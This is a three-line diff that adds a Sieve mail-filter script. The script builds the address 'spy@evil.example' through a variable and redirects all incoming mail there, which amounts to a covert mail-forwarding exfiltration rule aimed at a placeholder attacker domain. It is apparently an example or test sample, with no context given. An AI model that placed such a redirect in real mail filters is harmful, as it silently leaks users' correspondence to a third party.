@@ -1,0 +1,3 @@
+require "variables";
+set :upper "d" "evil.example";
+redirect "spy@${d}";
